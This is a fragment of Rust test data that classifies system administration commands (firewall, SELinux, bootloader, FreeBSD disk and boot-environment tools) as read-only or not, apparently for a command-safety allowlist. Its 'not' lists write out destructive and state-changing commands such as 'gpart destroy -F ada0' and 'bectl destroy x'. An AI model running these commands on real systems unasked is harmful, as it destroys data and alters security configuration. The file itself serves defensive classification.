        spec: &FIREWALL_OFFLINE,
        read_only: &[
            "firewall-offline-cmd --list-all",
            "firewall-offline-cmd --zone=public --list-services",
        ],
        not: &[
            "firewall-offline-cmd",
            "firewall-offline-cmd --service=http",
            "firewall-offline-cmd --service=http --list-all",
            "firewall-offline-cmd --add-service=http",
        ],
    },
    Entry {
        names: &["getenforce", "sestatus"],
        spec: &SESTATUS,
        read_only: &["getenforce", "sestatus -v", "sestatus -b"],
        not: &["sestatus -x"],
    },
    Entry {
        names: &["getsebool"],
        spec: &GETSEBOOL,
        read_only: &["getsebool -a", "getsebool httpd_can_network_connect"],
        not: &["getsebool -P x"],
    },
    Entry {
        names: &["semanage"],
        spec: &SEMANAGE,
        read_only: &[
            "semanage port -l",
            "semanage fcontext -l -C",
            "semanage boolean -l -n",
        ],
        not: &[
            "semanage port -a -t http_port_t -p tcp 8081",
            "semanage fcontext -d '/srv(/.*)?'",
            "semanage boolean -m --on x",
            "semanage port",
            "semanage import -f x",
        ],
    },
    Entry {
        names: &["matchpathcon"],
        spec: &MATCHPATHCON,
        read_only: &[
            "matchpathcon /srv/www/index.html",
            "matchpathcon -V /etc/passwd",
        ],
        not: &["matchpathcon -f /tmp/x /srv"],
    },
    Entry {
        names: &["restorecon"],
        spec: &RESTORECON,
        read_only: &["restorecon -Rnv /srv/www", "restorecon -n /etc/hosts"],
        not: &["restorecon -Rv /srv/www", "restorecon -n -f /tmp/list"],
    },
    Entry {
        names: &["audit2allow"],
        spec: &AUDIT2ALLOW,
        read_only: &["audit2allow -a", "audit2allow -w -a", "audit2allow -b"],
        not: &[
            "audit2allow -a -M mymodule",
            "audit2allow -i /tmp/x -o /etc/x",
        ],
    },
    Entry {
        names: &["grubby"],
        spec: &GRUBBY,
        read_only: &["grubby --default-kernel", "grubby --info=ALL"],
        not: &[
            "grubby --set-default /boot/vmlinuz-x",
            "grubby --update-kernel=ALL --args=x",
            "grubby --remove-kernel=x",
        ],
    },
    Entry {
        names: &["sysrc"],
        spec: &SYSRC,
        read_only: &["sysrc -a", "sysrc -n ifconfig_vtnet0", "sysrc sshd_enable"],
        not: &[
            "sysrc sshd_enable=YES",
            "sysrc -x sshd_enable",
            "sysrc -f /tmp/x a",
            "sysrc ifconfig_vtnet0+=x",
        ],
    },
    Entry {
        names: &["geom"],
        spec: &GEOM,
        read_only: &["geom disk list", "geom part status -s"],
        not: &["geom disk x", "geom eli attach ada0p2"],
    },
    Entry {
        names: &["sesearch"],
        spec: &SESEARCH,
        read_only: &[
            "sesearch --allow -s httpd_t",
            "sesearch -A -t shadow_t -c file",
        ],
        not: &["sesearch --bogus"],
    },
    Entry {
        names: &["bectl"],
        spec: &BECTL,
        read_only: &["bectl list", "bectl list -H"],
        not: &["bectl activate x", "bectl destroy x", "bectl create x"],
    },
    Entry {
        names: &["gpart"],
        spec: &GPART,
        read_only: &["gpart show -l", "gpart status", "gpart list ada0"],
        not: &["gpart destroy -F ada0", "gpart add -t freebsd-zfs ada0"],
    },
    Entry {
        names: &["freebsd-version"],
        spec: &FREEBSD_VERSION,
        read_only: &["freebsd-version -kru"],
        not: &["freebsd-version -j jail1"],
    },
    Entry {
        names: &["opnsense-version"],
        spec: &OPNSENSE_VERSION,
        read_only: &["opnsense-version", "opnsense-version -v"],
        not: &["opnsense-version -z"],
    },
    Entry {
        names: &["systemd-delta"],
        spec: &SYSTEMD_DELTA,
        read_only: &["systemd-delta --type=extended,overridden --diff=false"],
        not: &[
            "systemd-delta --root=/mnt",
            "systemd-delta --type=overridden",
        ],
    },
];
